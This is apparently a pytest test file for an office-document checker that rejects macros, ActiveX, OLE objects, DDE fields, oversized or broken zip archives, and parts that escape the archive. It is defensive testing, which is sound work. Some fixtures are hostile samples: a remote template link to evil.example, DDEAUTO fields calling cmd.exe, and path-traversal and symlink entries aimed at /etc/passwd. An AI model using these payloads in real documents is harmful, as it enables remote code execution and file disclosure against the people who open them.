"""Office documents: the directory is read within bounds, and what could act is refused."""

from __future__ import annotations

import stat
import struct
import tracemalloc
import zipfile
from io import BytesIO
from typing import TYPE_CHECKING

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.core.errors import Invalid
from app.core.media.office import check_office

if TYPE_CHECKING:
    from collections.abc import Mapping

TYPES = "[Content_Types].xml"
PLAIN = {TYPES: "<Types/>", "word/document.xml": "<w:p>DDE and macros are discussed here</w:p>"}
TEMPLATE = (
    '<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
)


def zipped(parts: Mapping[str, bytes | str]) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def refusal(data: bytes, extension: str = "docx") -> str:
    with pytest.raises(Invalid) as caught:
        check_office(BytesIO(data), extension)
    return str(caught.value)


def test_a_plain_document_passes() -> None:
    check_office(BytesIO(zipped(PLAIN)), "docx")
    check_office(BytesIO(zipped({TYPES: "<Types/>", "word/document2.xml": "<w/>"})), "docx")
    linked = '<w:instrText xml:space="preserve"> HYPERLINK "https://a.example/DDE x" </w:instrText>'
    check_office(BytesIO(zipped({**PLAIN, "word/document.xml": linked})), "docx")


@pytest.mark.parametrize(
    ("part", "data"),
    [
        ("word/vbaProject.bin", b"\xd0\xcf"),
        ("word/vbaData.xml", "<x/>"),
        ("WORD/VBAPROJECT.BIN", b"x"),
        ("word/activeX/activeX1.xml", "<x/>"),
        ("word/embeddings/oleObject1.bin", b"x"),
        ("xl/macrosheets/sheet1.xml", "<x/>"),
        (TYPES, '<Default ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
        ("word/_rels/settings.xml.rels", TEMPLATE),
        ("word/document.xml", "<w:instrText> DDEAUTO c:\\\\cmd.exe</w:instrText>"),
        ("word/document.xml", '<w:fldSimple w:instr="DDE excel"/>'),
        ("word/document.xml", "<w:instrText>DD</w:instrText><w:t/><w:instrText>E x</w:instrText>"),
        ("xl/externalLinks/externalLink1.xml", '<ddeLink ddeService="cmd"/>'),
    ],
)
def test_what_acts_when_opened_is_refused(part: str, data: bytes | str) -> None:
    assert "macros" in refusal(zipped({**PLAIN, part: data}))


@pytest.mark.parametrize("part", ["Basic/Standard/Module1.xml", "Scripts/python/x.py"])
def test_macros_of_open_documents_are_refused(part: str) -> None:
    mimetype = "application/vnd.oasis.opendocument.text"
    assert "macros" in refusal(
        zipped({"mimetype": mimetype, "content.xml": "<x/>", part: "x"}), "odt"
    )


def test_words_hidden_by_another_encoding_are_refused() -> None:
    assert "broken" in refusal(zipped({**PLAIN, TYPES: "<macroEnabled/>".encode("utf-16")}))


@pytest.mark.parametrize("name", ["../x", "a/../../x", "/etc/passwd", "..\\x", "C:/x"])
def test_parts_that_reach_outside_are_refused(name: str) -> None:
    assert "outside" in refusal(zipped({**PLAIN, name: "x"}))


def test_a_link_among_the_parts_is_refused() -> None:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in PLAIN.items():
            archive.writestr(name, data)
        link = zipfile.ZipInfo("word/link")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
    assert "outside" in refusal(out.getvalue())


class Counted(BytesIO):
    """A file that counts the bytes read of it."""

    count = 0

    def read(self, size: int | None = -1, /) -> bytes:
        """Read, and count."""
        data = super().read(size)
        self.count += len(data)
        return data


def test_a_hundred_thousand_parts_are_refused_unread() -> None:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for number in range(100_000):
            archive.writestr(str(number), b"")
    counted = Counted(out.getvalue())
    with pytest.raises(Invalid, match="more parts"):
        check_office(counted, "docx")
    # The last of it, where a directory ends, and the first four bytes.
    assert counted.count < 70_000 < len(out.getvalue())


def test_a_document_that_unpacks_to_too_much_is_refused() -> None:
    big = bytes(1_000_000)
    data = bytearray(zipped({**PLAIN, "word/media/a": big}))
    at = data.rfind(b"PK\x01\x02")
    struct.pack_into("<I", data, at + 24, 600_000_000)
    assert "unpack" in refusal(bytes(data))


def test_a_part_that_swells_is_read_up_to_its_bound() -> None:
    file = BytesIO(zipped({**PLAIN, "word/document.xml": b" " * 50_000_000}))
    tracemalloc.start()
    try:
        check_office(file, "docx")
        assert tracemalloc.get_traced_memory()[1] < 10_000_000
    finally:
        tracemalloc.stop()


def changed(at: int, layout: str, value: int, mark: bytes = b"PK\x05\x06") -> bytes:
    data = bytearray(zipped(PLAIN))
    struct.pack_into(layout, data, data.rfind(mark) + at, value)
    return bytes(data)


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"PK\x03\x04",
        b"PK\x05\x06" + bytes(18),
        zipped(PLAIN)[:-30],
        b"GIF89a" + zipped(PLAIN),
        zipped({**PLAIN})[4:],
        changed(10, "<H", 3),
        changed(10, "<H", 1),
        changed(12, "<I", 5),
        changed(16, "<I", 2**31),
        changed(8, "<H", 1, b"PK\x01\x02"),
        changed(10, "<H", 99, b"PK\x01\x02"),
        changed(28, "<H", 60_000, b"PK\x01\x02"),
        changed(42, "<I", 2**31, b"PK\x01\x02"),
    ],
    ids=range(14),
)
def test_a_broken_or_encrypted_document_is_refused(data: bytes) -> None:
    assert "broken" in refusal(data)


@settings(deadline=None)
@given(st.lists(st.tuples(st.integers(0, 10_000), st.integers(0, 255)), min_size=1, max_size=8))
def test_random_damage_ends_in_a_sentence(changes: list[tuple[int, int]]) -> None:
    data = bytearray(zipped(PLAIN))
    for at, value in changes:
        data[at % len(data)] = value
    try:
        check_office(BytesIO(data), "docx")
    except Invalid:
        return
